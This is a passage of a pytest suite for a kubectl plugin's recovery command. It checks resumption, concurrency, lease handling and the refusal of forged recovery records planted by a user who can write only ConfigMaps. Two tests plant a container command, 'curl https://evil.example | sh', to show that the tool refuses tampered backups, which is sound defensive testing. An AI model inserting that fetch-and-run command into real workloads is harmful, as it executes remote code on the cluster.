         + [("replace", "true", k) for k in (5, 6, 7)]          # after alpha's delete, its wait, its re-creation
         + [("side-by-side", "false", k) for k in (1, 2, 5)])   # the user had it off: it stays off


def _uninterrupted(cluster_, monkeypatch, tmp_path, strategy, setting):
    key = (strategy, setting)
    if key not in _UNINTERRUPTED:
        cluster, _ = cluster_
        ns = cluster.new_namespace("recover")
        _scene_in(cluster, ns)
        argv = _variant((cluster, ns), strategy, setting)
        with Operator(cluster, ns) as op:
            monkeypatch.setattr("kubectl_kvcache.cli.flows.recover.POLL_SECONDS", 0.05)
            code, out, err = _run_fresh(cluster, monkeypatch, tmp_path, f"whole-{strategy}-{setting}", argv)
            assert code == 0, err + out
        assert op.errors == []
        _UNINTERRUPTED[key] = end_state(cluster, ns)
    return _UNINTERRUPTED[key]


def _scene_in(cluster, ns):
    cluster.request("PATCH", SETTING, {"spec": {"value": "true"}}, content_type=MERGE)
    cluster.request("PATCH", SETTING + "/status", {"status": {"value": "true"}}, content_type=MERGE)
    pool = f"pool-{ns}"
    cluster.apply(_pool(pool))
    cluster.apply([_binding(ns, "sgl-fp8", pool, "sgl", "fp8"), _md(ns, "alpha", "sgl-fp8"),
                   _md(ns, "beta", "sgl-fp8"), _md(ns, "other", "elsewhere"),
                   {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "batch", "namespace": ns},
                    "spec": {"selector": {"matchLabels": {"app": "batch"}},
                             "template": {"metadata": {"labels": {"app": "batch", "kvcache.gpustack.ai/inject": "true"},
                                                       "annotations": {"kvcache.gpustack.ai/binding": "sgl-fp8",
                                                                       "kvcache.gpustack.ai/engine": "SGLang"}},
                                          "spec": {"containers": [{"name": "main", "image": "lmsysorg/sglang:v0.5.18",
                                                                   "command": ["python3", "-m",
                                                                               "sglang.launch_server"]}]}}}}])


@pytest.mark.parametrize("strategy,setting,after", CASES)
def test_interrupted_after_any_step_then_resumed_from_a_fresh_directory(scene, tmp_path, monkeypatch, strategy,
                                                                        setting, after):
    """The same command, Ctrl-C after step K, then run again in another directory (no --backup-dir,
    no local backups): it finds the recovery's record in the cluster and continues; the end state
    is the one an uninterrupted run leaves (the Setting on again exactly when this recovery turned
    it off; the backups of what it deleted in the record)."""
    cluster, ns = scene
    argv = _variant(scene, strategy, setting)
    with Operator(cluster, ns) as op:
        stop = Interrupt(monkeypatch, after)
        code, out, err = _run_fresh(cluster, monkeypatch, tmp_path, "first", argv)
        assert code == 130 and stop.ran[-1] == after, err + out
        assert "error: interrupted" in err and f"Stopped at step {after}" in err
        monkeypatch.undo()
        monkeypatch.setattr("kubectl_kvcache.cli.flows.recover.POLL_SECONDS", 0.05)
        code, out, err = _run_fresh(cluster, monkeypatch, tmp_path, "again", argv)
        assert code == 0, err + out
        assert "Recovery finished" in out
        assert "the Setting is off and stays off" in err if setting == "false" else "stays off" not in err
    assert op.errors == []
    got = end_state(cluster, ns)
    assert got == _uninterrupted(scene, monkeypatch, tmp_path, strategy, setting)
    assert got["setting"] == setting and got["record"]["finished"] is True
    assert {"ModelDeployment", "KVCachePoolBinding"} <= {k for k, _ in got["backups"]}


def test_the_last_step_asks_the_gate_setting_on_asks(scene, tmp_path):
    """Another namespace's Binding is rejected by the engine its deployment runs: turning the
    Setting on would crash-loop it. recover's last step says so as `setting on` does (each error
    with its fix, a rejected Binding's being its recover command) and stops there, the Setting off;
    once that Binding is fixed, the same command finishes and turns it on."""
    cluster, ns = scene
    other = cluster.new_namespace("other")
    cluster.apply(_pool(f"pool-{other}"))
    cluster.apply([_binding(other, "bad", f"pool-{other}", "d", "fp8"), _md(other, "gamma", "bad")])
    try:
        with Operator(cluster, ns) as op:
            p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path)
            # refused by the gate: exit 1, as `setting on` refused by it (issue 48 item 7; README "Exit codes")
            assert p.returncode == 1, p.stderr + p.stdout
            assert "Before turning it on, check -A found 1 error: the Setting is not turned on. Each with its fix:" \
                in p.stdout
            assert f"kubectl kvcache recover bad -n {other}" in p.stdout
            # the scene's own pre-existing error (other names a Binding that does not exist) does not hold it
            assert re.search(r"Turning it on does not change \d+ errors? that exists? with the Setting off too:",
                             p.stdout)
            line = one_error_line(p.stderr)
            assert line.startswith("error: refusing to turn the Setting on: check found 1 error") and "rerun" in line
            assert "Stopped at step 15 of 16" in p.stderr and setting_value(cluster) == "false"
            assert "The Setting is off: step 1 of this recovery turned it off" in p.stderr
            (_, s_out, s_err) = in_process(cluster, "setting", "on", "--dry-run")
            assert "Before turning it on, check -A found 1 error: the Setting is not turned on." in s_out
            assert f"kubectl kvcache recover bad -n {other}" in s_out
            _clear(cluster, other)
            p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path / "elsewhere"
                       if (tmp_path / "elsewhere").mkdir() is None else tmp_path)
            assert p.returncode == 0, p.stderr + p.stdout
            assert "Before turning it on, check -A: no errors that turning it on causes" in p.stdout
        assert op.errors == [] and setting_value(cluster) == "true"
    finally:
        _clear(cluster, other)


# -- the record is never an authority: a ConfigMap-only user, the two-runs race, sizes --------

CM = "/api/v1/namespaces/{ns}/configmaps"


def configmap_writer(cluster, ns):
    """A user who may write ConfigMaps in `ns` and nothing else (as `kubectl auth can-i` would say):
    returns the name request() takes for it."""
    name = f"cm-writer-{ns}"
    cluster.add_user(name)
    cluster.apply([{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                    "metadata": {"name": "cm-writer", "namespace": ns},
                    "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["*"]}]},
                   {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                    "metadata": {"name": "cm-writer", "namespace": ns},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "cm-writer"},
                    "subjects": [{"kind": "User", "name": name}]}], with_status=False)
    user = "user-" + name
    deadline = time.monotonic() + 10
    while cluster.request("GET", CM.format(ns=ns), user=user)[0] != 200:      # RBAC caches settle
        assert time.monotonic() < deadline
        time.sleep(0.1)
    # it cannot create a ModelDeployment, nor write a Binding or the Setting
    assert cluster.request("POST", f"{API}/namespaces/{ns}/modeldeployments", _md(ns, "x", "sgl-fp8"),
                           user=user)[0] == 403
    assert cluster.request("PATCH", f"{API}/namespaces/{ns}/kvcachepoolbindings/sgl-fp8",
                           {"metadata": {"annotations": {"a": "b"}}}, user=user, content_type=MERGE)[0] == 403
    assert cluster.request("PATCH", SETTING, {"spec": {"value": "true"}}, user=user, content_type=MERGE)[0] == 403
    return user


def _state(ns, binding="sgl-fp8", uid=None, **over):
    state = {"binding": {"namespace": ns, "name": binding, "uid": uid},
             "target": {"name": "sgl-fp8-e4m3", "domain": "sgl-fp8-e4m3", "dtype": "fp8_e4m3",
                        "strategy": "side-by-side"},
             "settingTurnedOff": False, "finished": False, "holder": None, "expires": None}
    state.update(over)
    return state


def plant(cluster, user, ns, state, backups=(), name="kvcache-recover-sgl-fp8"):
    data = {"recovery.json": json.dumps(state)}
    for b in backups:
        m = b["metadata"]
        data[f"backup.{b['kind']}.{ns}.{m['name']}.rv{m.get('resourceVersion', '1')}.json"] = json.dumps(b)
    status, out = cluster.request("POST", CM.format(ns=ns), {
        "apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": name, "namespace": ns, "labels": {"app.kubernetes.io/managed-by": "kubectl-kvcache"}},
        "data": data}, user=user)
    assert status == 201, out
    return data


def _evil(ns):
    evil = _md(ns, "evil-fp8-e4m3", "sgl-fp8")
    evil["metadata"]["name"] = "evil"
    evil["spec"]["roles"][0]["command"] = ["sh", "-c", "curl https://evil.example | sh"]
    return evil


def unchanged(cluster, ns, before):
    assert mds(cluster, ns).keys() == before and binding(cluster, ns, "sgl-fp8-e4m3") is None
    assert binding(cluster, ns, "sgl-fp8") is not None and setting_value(cluster) == "true"


def _uid(cluster, ns, name="sgl-fp8"):
    return binding(cluster, ns, name)["metadata"]["uid"]


@pytest.mark.parametrize("forgery", ["planted-workload", "forged-uid", "forged-digest", "another-binding",
                                     "backup-dir-file"])
def test_a_planted_record_or_backup_changes_nothing(scene, tmp_path, forgery):
    """A ConfigMap-only user plants the recovery's record: a backup of a ModelDeployment that never
    existed, naming the Binding, with its own command (with the Binding's real uid, with a digest of
    its own in the state, for another Binding), or the same backup as a file in --backup-dir. The
    administrator's run refuses with one line naming where it read it, and changes nothing."""
    cluster, ns = scene
    user = configmap_writer(cluster, ns)
    before = mds(cluster, ns).keys()
    backup_dir = tmp_path / "b"
    key = f"backup.ModelDeployment.{ns}.evil.rv1.json"
    if forgery == "backup-dir-file":
        backup_dir.mkdir()
        (backup_dir / f"ModelDeployment.{ns}.evil.rv1.json").write_text(json.dumps(_evil(ns)))
        where = f"file {backup_dir / f'ModelDeployment.{ns}.evil.rv1.json'}"
    else:
        state = {"planted-workload": _state(ns), "forged-uid": _state(ns, uid=_uid(cluster, ns)),
                 "forged-digest": _state(ns, uid=_uid(cluster, ns), digests={key: "sha256:" + "0" * 64}),
                 "another-binding": _state(ns, binding="other")}[forgery]
        plant(cluster, user, ns, state, [_evil(ns)])
        where = (f"ConfigMap {ns}/kvcache-recover-sgl-fp8: data.recovery.json names KVCachePoolBinding {ns}/other"
                 if forgery == "another-binding" else f"ConfigMap {ns}/kvcache-recover-sgl-fp8 key {key}")
    with Operator(cluster, ns) as op:
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--backup-dir", str(backup_dir),
                   cwd=tmp_path)
    assert op.errors == []
    assert p.returncode == 2, p.stdout + p.stderr
    line = one_error_line(p.stderr)
    assert line.startswith(f"error: {where}"), line
    assert "nothing was changed" in line and ("remove it" in line or "delete the ConfigMap" in line), line
    unchanged(cluster, ns, before)
    assert "evil" not in mds(cluster, ns)
    # the plan alone (no --apply) refuses the same way: nothing it prints comes from the planted backup
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--backup-dir", str(backup_dir), cwd=tmp_path)
    assert p.returncode == 2 and one_error_line(p.stderr) == line and "evil" not in p.stdout


def test_a_planted_setting_turned_off_leaves_the_setting_off(scene, tmp_path):
    """The Setting is off on purpose; a planted record says an earlier run turned it off. The run
    moves everything and leaves the Setting off, saying the record was not trusted."""
    cluster, ns = scene
    user = configmap_writer(cluster, ns)
    cluster.request("PATCH", SETTING, {"spec": {"value": "false"}}, content_type=MERGE)
    cluster.request("PATCH", SETTING + "/status", {"status": {"value": "false"}}, content_type=MERGE)
    plant(cluster, user, ns, _state(ns, uid=_uid(cluster, ns), settingTurnedOff=True))
    with Operator(cluster, ns) as op:
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s",
                   "--backup-dir", str(tmp_path / "b"), cwd=tmp_path)
    assert op.errors == []
    assert p.returncode == 0, p.stdout + p.stderr
    assert "Turn the Setting on" not in p.stdout
    assert "does not carry this recovery's annotation" in p.stderr and "the Setting is off and stays off" in p.stderr
    assert setting_value(cluster) == "false"
    assert set(mds(cluster, ns)) == {"alpha-fp8-e4m3", "beta-fp8-e4m3", "other"}


def test_a_planted_target_is_not_used(scene, tmp_path):
    cluster, ns = scene
    user = configmap_writer(cluster, ns)
    state = _state(ns, uid=_uid(cluster, ns))
    state["target"] = {"name": "sgl-evil", "domain": "sgl-evil", "dtype": "fp8_e5m2", "strategy": "replace"}
    plant(cluster, user, ns, state)
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert f"Target: KVCachePoolBinding {ns}/sgl-fp8-e4m3, domain sgl-fp8-e4m3, dtype 'fp8_e4m3' (check's " \
           f"suggestion); strategy side-by-side" in p.stdout
    assert "(--dtype)" not in p.stdout and "fp8_e5m2" not in p.stdout
    assert "names another target" in p.stderr and "not trusted" in p.stderr
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", cwd=tmp_path)
    assert json.loads(p.stdout)["target"]["sources"] == {"dtype": "suggestion", "name": "derived",
                                                         "domain": "derived", "strategy": "default"}


def test_a_backup_edited_before_a_resume_is_refused(scene, tmp_path):
    """replace: the old alpha is held by a finalizer and the run times out waiting for it to go.
    The ConfigMap-only user edits alpha's backup in the record (its command). Once alpha has gone,
    the resume refuses that backup (one line naming the key) and creates nothing; the backup the
    recovery took (the file in --backup-dir, digest on its Binding) is still good: with the edited
    key removed, the same command finishes from it."""
    cluster, ns = scene
    user = configmap_writer(cluster, ns)
    cluster.request("PATCH", f"{API}/namespaces/{ns}/modeldeployments/alpha",
                    {"metadata": {"finalizers": ["test.example/hold"]}}, content_type=MERGE)
    backups = tmp_path / "backups"
    with Operator(cluster, ns) as op:
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--strategy", "replace", "--apply", "--yes",
                   "--timeout", "2s", "--backup-dir", str(backups), cwd=tmp_path)
        assert p.returncode == 2 and "timed out after 2s waiting until ModelDeployment" in one_error_line(p.stderr)
        new = binding(cluster, ns, "sgl-fp8-e4m3")
        assert new["metadata"]["annotations"]["kvcache.gpustack.ai/recovered-from-uid"] == _uid(cluster, ns)
        assert any(k.startswith("backup.kvcache.gpustack.ai/") for k in new["metadata"]["annotations"])
        status, cm = cluster.request("GET", CM.format(ns=ns) + "/kvcache-recover-sgl-fp8", user=user)
        (key,) = [k for k in cm["data"] if k.startswith(f"backup.ModelDeployment.{ns}.alpha.")]
        edited = json.loads(cm["data"][key])
        edited["spec"]["roles"][0]["command"] = ["sh", "-c", "curl https://evil.example | sh"]
        status, _ = cluster.request("PATCH", CM.format(ns=ns) + "/kvcache-recover-sgl-fp8",
                                    {"data": {key: json.dumps(edited)}}, user=user, content_type=MERGE)
        assert status == 200
        release(cluster, ns, "alpha")
        argv = resume_argv(p.stderr)
        p = plugin(cluster, *argv, "--yes", cwd=tmp_path)
        assert p.returncode == 2, p.stdout + p.stderr
        line = one_error_line(p.stderr)
        assert line.startswith(f"error: ConfigMap {ns}/kvcache-recover-sgl-fp8 key {key}: not a backup this "
                               f"recovery took"), line
        assert "alpha" not in mds(cluster, ns)
        # the way on: the edited key goes (review it); the recovery's own backup (its file) finishes it
        cluster.request("PATCH", CM.format(ns=ns) + "/kvcache-recover-sgl-fp8", {"data": {key: None}},
                        content_type=MERGE)
        p = plugin(cluster, *argv, "--yes", cwd=tmp_path)
        assert p.returncode == 0, p.stdout + p.stderr
        assert "from a backup verified against the recovery's Binding" in p.stdout
    assert op.errors == []
    now = mds(cluster, ns)
    assert now["alpha"]["spec"]["roles"] == _md(ns, "alpha", "x")["spec"]["roles"]
    assert "command" not in now["alpha"]["spec"]["roles"][0]


def test_two_applies_at_once_the_second_refuses_and_nothing_is_lost(scene, tmp_path, monkeypatch):
    """B reads the cluster and waits at its question; meanwhile A runs to the end; then B answers y.
    B refuses (one line), writes nothing: A's record (finished, every backup, settingTurnedOff
    cleared) is as A left it."""
    from kubectl_kvcache.cli.flows import recover as flow

    cluster, ns = scene
    ran = {}

    def a_runs_meanwhile(io, data):
        with Operator(cluster, ns) as op:
            ran["a"] = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s",
                              "--backup-dir", str(tmp_path / "a"), cwd=tmp_path)
        ran["errors"] = op.errors
        ran["record"] = recovery_record(cluster, ns)
        return True
    monkeypatch.setattr(flow, "confirm", a_runs_meanwhile)
    monkeypatch.chdir(tmp_path)
    code, out, err = in_process(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--backup-dir",
                                str(tmp_path / "b"))
    assert ran["a"].returncode == 0, ran["a"].stderr and ran["errors"] == []
    assert code == 2, err + out
    line = one_error_line(err)
    assert line.startswith(f"error: ConfigMap {ns}/kvcache-recover-sgl-fp8 was created by another run since this "
                           f"one read the cluster (it finished the recovery)"), line
    after = recovery_record(cluster, ns)
    assert after == ran["record"]
    assert after["state"]["finished"] is True and after["state"]["settingTurnedOff"] is False
    assert {("ModelDeployment", "alpha"), ("ModelDeployment", "beta"), ("KVCachePoolBinding", "sgl-fp8")} \
        <= after["backups"]
    assert not (tmp_path / "b").exists() and setting_value(cluster) == "true"


def test_a_held_record_refuses_a_second_run_until_its_lease_expires(scene, tmp_path):
    """A run that died holding the record (kill -9: no release): the next run refuses, naming the
    holder and the expiry, and changes nothing; once the lease has expired it takes over and
    finishes."""
    cluster, ns = scene
    holder = {"id": "dead", "agent": "kubectl-kvcache/0", "host": "laptop", "pid": 4242,
              "since": "2026-01-01T00:00:00Z"}
    path = CM.format(ns=ns) + "/kvcache-recover-sgl-fp8"
    plant(cluster, "admin", ns, _state(ns, uid=_uid(cluster, ns), holder=holder, expires="2999-01-01T00:00:00Z"))
    before = mds(cluster, ns).keys()
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path)
    assert p.returncode == 2
    line = one_error_line(p.stderr)
    assert line == (f"error: ConfigMap {ns}/kvcache-recover-sgl-fp8: another run of this recovery holds it "
                    f"(kubectl-kvcache/0 on host laptop pid 4242 since 2026-01-01T00:00:00Z, until "
                    f"2999-01-01T00:00:00Z); nothing was changed: let it finish; if it is gone, run this command "
                    f"again after 2999-01-01T00:00:00Z to take over"), line
    unchanged(cluster, ns, before)
    state = _state(ns, uid=_uid(cluster, ns), holder=holder, expires="2026-01-01T00:05:00Z")
    cluster.request("PATCH", path, {"data": {"recovery.json": json.dumps(state)}}, content_type=MERGE)
    with Operator(cluster, ns) as op:
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s",
                   "--backup-dir", str(tmp_path / "b"), cwd=tmp_path)
    assert op.errors == [] and p.returncode == 0, p.stdout + p.stderr
    record = recovery_record(cluster, ns)
    assert record["state"]["finished"] is True and record["state"]["holder"] is None


def test_an_object_larger_than_the_record_is_refused_before_the_first_change(scene, tmp_path):
    cluster, ns = scene
    big = _md(ns, "big", "sgl-fp8")
    big["spec"]["model"]["chatTemplate"] = "x" * (1100 * 1024)          # a 1.1 MiB ModelDeployment
    status, out = cluster.request("POST", f"{API}/namespaces/{ns}/modeldeployments", big)
    assert status == 201, out
    before = mds(cluster, ns).keys()
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path)
    assert p.returncode == 2, p.stdout + p.stderr
    line = one_error_line(p.stderr)
    assert re.match(rf"error: ModelDeployment {ns}/big is 11\d{{5}} bytes: its backup does not fit the recovery's "
                    rf"record \(ConfigMap {ns}/kvcache-recover-sgl-fp8, at most 1048576 bytes in all\)", line), line
    assert "nothing was changed" in line and "by hand" in line
    unchanged(cluster, ns, before)
    assert recovery_record(cluster, ns) is None and os.listdir(tmp_path) == []


def test_setting_on_during_a_recovery_is_told_so(scene, tmp_path):
    """A recovery stopped part-way (its replacement never became available) leaves the Setting off,
    marked as this recovery's; `setting on` says so before it asks, and takes the mark away."""
    cluster, ns = scene
    with Operator(cluster, ns) as op:
        op.hold.add("alpha-fp8-e4m3")
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "2s",
                   "--backup-dir", str(tmp_path / "b"), cwd=tmp_path)
        assert p.returncode == 2 and setting_value(cluster) == "false"
        mark = cluster.request("GET", SETTING)[1]["metadata"]["annotations"]["kvcache.gpustack.ai/turned-off-by-recovery"]
        assert mark == f"KVCachePoolBinding {ns}/sgl-fp8 uid {_uid(cluster, ns)}"
        s = plugin(cluster, "setting", "on", "--dry-run=client", "--force", cwd=tmp_path)   # its gate refuses
        assert f"the Setting was turned off by the recovery of KVCachePoolBinding {ns}/sgl-fp8" in s.stderr, s.stderr
        assert "turned-off-by-recovery" in s.stdout          # the patch takes the mark away
        # the stopped run let go of its record: the printed command continues at once
        op.hold.clear()
        p = plugin(cluster, *resume_argv(p.stderr), "--yes", cwd=tmp_path)
        assert p.returncode == 0, p.stdout + p.stderr
    assert op.errors == [] and setting_value(cluster) == "true"
    assert "kvcache.gpustack.ai/turned-off-by-recovery" not in (
        cluster.request("GET", SETTING)[1]["metadata"].get("annotations") or {})


# -- writes whose answer is lost ------------------------------------------------------------------

@pytest.mark.parametrize("fault", ["500", "drop"])
def test_recovery_writes_whose_answer_is_lost_are_read_again(scene, tmp_path, fault):
    """Every kind of write a recovery sends (the Setting's patch, the creates, the template's patch,
    the deletes) reaches the real server and is applied, and its answer is lost (a 500 with
    Retry-After, whose retry meets the real server's 409/404, or a dropped connection): the
    recovery reads the object again, finds the change in place, says so, and goes on to the end,
    the same end as an uninterrupted run."""
    import kvcache_test_harness as harness

    cluster, ns = scene
    lost = set()

    def lose(method, path):
        kind = (method, path.rsplit("/", 2)[-2] if method != "POST" else path.rsplit("/", 1)[-1])
        if method in ("PATCH", "POST", "DELETE") and kind not in lost and "configmaps" not in path:
            lost.add(kind)      # the first write of each kind (a record write is not a recovery step)
            return fault
        return None

    proxy = harness.AnswerLosingProxy(cluster, lose)
    try:
        with Operator(cluster, ns) as op:
            p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s",
                       kubeconfig=proxy.kubeconfig, cwd=tmp_path)
    finally:
        proxy.close()
    assert p.returncode == 0, p.stderr + p.stdout
    assert op.errors == []
    assert {m for m, _ in lost} == {"PATCH", "POST", "DELETE"}, lost
    writes = [f for f in proxy.forwarded if f[0] != "GET"]
    assert p.stdout.count("its answer was lost") >= 3, "\n".join(map(str, writes))
    assert "Recovery finished" in p.stdout
    assert set(mds(cluster, ns)) == {"alpha-fp8-e4m3", "beta-fp8-e4m3", "other"}
    assert binding(cluster, ns, "sgl-fp8") is None and binding(cluster, ns, "sgl-fp8-e4m3") is not None
    assert setting_value(cluster) == "true"


def _reviewer(cluster, ns, name):
    """A user who may get, list and watch Pods, Namespaces, the operator's kinds and apps/batch
    workloads, and nothing else (no ConfigMaps, Secrets, Services...): their kubeconfig, once the
    API server's RBAC caches let them read."""
    import yaml

    kubeconfig = cluster.add_user(name)
    rules = [{"apiGroups": [""], "resources": ["pods", "namespaces"], "verbs": ["get", "list", "watch"]},
             {"apiGroups": ["worker.gpustack.ai", "gpustack.ai"], "resources": ["*"], "verbs": ["get", "list", "watch"]},
             {"apiGroups": ["apps", "batch"], "resources": ["*"], "verbs": ["get", "list", "watch"]}]
    cluster.apply(yaml.safe_load_all(f"""
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {{name: {name}}}
rules: {json.dumps(rules)}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {{name: {name}}}
roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {name}}}
subjects: [{{kind: User, name: {name}}}]
"""), with_status=False)
    deadline = time.monotonic() + 10
    while cluster.request("GET", f"{API}/namespaces/{ns}/modeldeployments", user="user-" + name)[0] != 200:
        assert time.monotonic() < deadline      # RBAC caches settle
        time.sleep(0.1)
    return kubeconfig


def test_a_reviewer_with_read_rights_sees_the_plan(scene, tmp_path):
    """issue 30 #4: the read-only user (get/list/watch of Pods and the operator's kinds, no
    ConfigMaps) plans the recovery: the record is only a hint, so a record it may not read is
    passed over with a note, and the plan is the one the administrator gets; --apply still says
    what it needs."""
    cluster, ns = scene
    # a reviewer: get, list and watch of everything the plan reads, nothing on ConfigMaps or Secrets
    name = f"reviewer-{ns}"
    kubeconfig = _reviewer(cluster, ns, name)
    mine = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", cwd=tmp_path)
    assert mine.returncode == 0, mine.stderr
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", kubeconfig=kubeconfig, cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert "cannot read the recovery's record" in p.stderr and "forbidden" in p.stderr
    theirs = json.loads(p.stdout)
    assert [s["action"] for s in theirs["steps"]] == [s["action"] for s in json.loads(mine.stdout)["steps"]]
    applied = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", kubeconfig=kubeconfig,
                     cwd=tmp_path)
    assert applied.returncode == 2 and "configmaps" in one_error_line(applied.stderr)


# -- issue 30 #3: what points at a deployment side-by-side renames; #4: one backup folder --------

INSTANCE = "app.kubernetes.io/instance"


def _referrers(ns):
    """alpha: a Service selecting its instance, an HPA scaling it, an Ingress and an HTTPRoute in
    front of that Service; beta: a PDB; every model: a Service that follows by itself."""
    return [
        {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "alpha", "namespace": ns},
         "spec": {"selector": {INSTANCE: "alpha"}, "ports": [{"port": 80}]}},
        {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "models", "namespace": ns},
         "spec": {"selector": {"app.kubernetes.io/name": "model-deployment"}, "ports": [{"port": 80}]}},
        {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "unrelated", "namespace": ns},
         "spec": {"selector": {INSTANCE: "other"}, "ports": [{"port": 80}]}},
        {"apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler", "metadata": {"name": "alpha", "namespace": ns},
         "spec": {"scaleTargetRef": {"apiVersion": f"{GROUP}/{VERSION}", "kind": "ModelDeployment",
                                     "name": "alpha"}, "minReplicas": 1, "maxReplicas": 3}},
        {"apiVersion": "policy/v1", "kind": "PodDisruptionBudget", "metadata": {"name": "beta", "namespace": ns},
         "spec": {"selector": {"matchLabels": {INSTANCE: "beta"}}, "minAvailable": 1}},
        {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {"name": "front", "namespace": ns},
         "spec": {"rules": [{"http": {"paths": [{"path": "/", "pathType": "Prefix",
                                                 "backend": {"service": {"name": "alpha", "port": {"number": 80}}}}]}}]}},
    ]


def _route(ns):
    return {"apiVersion": "gateway.networking.k8s.io/v1", "kind": "HTTPRoute",
            "metadata": {"name": "chat", "namespace": ns},
            "spec": {"rules": [{"backendRefs": [{"name": "alpha", "port": 80}, {"name": "models", "port": 80}]}]}}


def _plan(cluster, ns, *extra, kubeconfig=None, cwd=None):
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", *extra, kubeconfig=kubeconfig, cwd=cwd)
    assert p.returncode == 0, p.stderr
    return json.loads(p.stdout), p


def _found(plan):
    return {(f["kind"], f["name"], f["deployment"]): f for f in plan["referrers"]["objects"]}


def test_the_plan_names_what_points_at_each_renamed_deployment_routes_served_or_not(scene, tmp_path):
    cluster, ns = scene
    cluster.apply(_referrers(ns), with_status=False)

    # the Gateway API not served (no CRD): "not served", not an error
    plan, _ = _plan(cluster, ns, cwd=tmp_path)
    ref = plan["referrers"]
    assert {(r["from"], r["to"]) for r in ref["renamed"]} == {("alpha", "alpha-fp8-e4m3"), ("beta", "beta-fp8-e4m3")}
    found = _found(plan)
    assert set(found) == {("Service", "alpha", "alpha"), ("Service", "models", "alpha"),
                          ("Service", "models", "beta"), ("HorizontalPodAutoscaler", "alpha", "alpha"),
                          ("PodDisruptionBudget", "beta", "beta"), ("Ingress", "front", "alpha")}
    assert found[("Service", "alpha", "alpha")]["do"] == f"set spec.selector.{INSTANCE} to alpha-fp8-e4m3"
    assert found[("Service", "models", "alpha")]["change"] is False
    assert found[("HorizontalPodAutoscaler", "alpha", "alpha")]["do"].startswith(
        "set spec.scaleTargetRef.name to alpha-fp8-e4m3")
    assert found[("PodDisruptionBudget", "beta", "beta")]["do"] == \
        f"set spec.selector.matchLabels.{INSTANCE} to beta-fp8-e4m3"
    assert "Service alpha" in found[("Ingress", "front", "alpha")]["points"]
    assert ref["unchecked"] == []
    assert ref["notServed"] == ["HTTPRoutes (gateway.networking.k8s.io/v1): not served by the cluster"]
    assert ref["source"] == "cluster"

    text = plugin(cluster, "recover", "sgl-fp8", "-n", ns, cwd=tmp_path)
    assert text.returncode == 0, text.stderr
    assert f"Service {ns}/alpha (alpha -> alpha-fp8-e4m3): spec.selector {INSTANCE}=alpha selects" in text.stdout
    assert f"HorizontalPodAutoscaler {ns}/alpha (alpha -> alpha-fp8-e4m3)" in text.stdout
    assert "HTTPRoutes (gateway.networking.k8s.io/v1): not served by the cluster" in text.stdout
    yml = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "yaml", cwd=tmp_path)
    assert yml.returncode == 0 and "referrers:" in yml.stdout and "PodDisruptionBudget" in yml.stdout
    md = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "markdown", cwd=tmp_path)
    assert md.returncode == 0 and "## Pointing at a renamed deployment" in md.stdout

    # replace keeps the names: nothing to name
    plan, _ = _plan(cluster, ns, "--strategy", "replace", cwd=tmp_path)
    assert "referrers" not in plan

    # the Gateway API served: the route in front of Service alpha is named
    cluster.install_crds(os.path.join(os.path.dirname(os.path.abspath(__file__)), "crds", "gateway"))
    cluster.wait_discovery({"gateway.networking.k8s.io/v1": ["httproutes"]})
    cluster.apply([_route(ns)], with_status=False)
    plan, _ = _plan(cluster, ns, cwd=tmp_path)
    found = _found(plan)
    assert ("HTTPRoute", "chat", "alpha") in found and ("HTTPRoute", "chat", "beta") not in found
    assert found[("HTTPRoute", "chat", "alpha")]["points"].startswith("spec.rules[0].backendRefs[0].name routes to "
                                                                      "Service alpha")
    assert plan["referrers"]["notServed"] == []


def test_lists_rbac_refuses_are_said_and_the_plan_still_made(scene, tmp_path):
    """A reviewer who may read what the plan needs but no Services, autoscalers, budgets, ingresses
    or routes: each is "could not check ...: forbidden", the plan is the administrator's."""

    cluster, ns = scene
    cluster.apply(_referrers(ns)[:1], with_status=False)
    name = f"refs-reviewer-{ns}"
    kubeconfig = _reviewer(cluster, ns, name)
    mine, _ = _plan(cluster, ns, cwd=tmp_path)
    assert ("Service", "alpha", "alpha") in _found(mine)
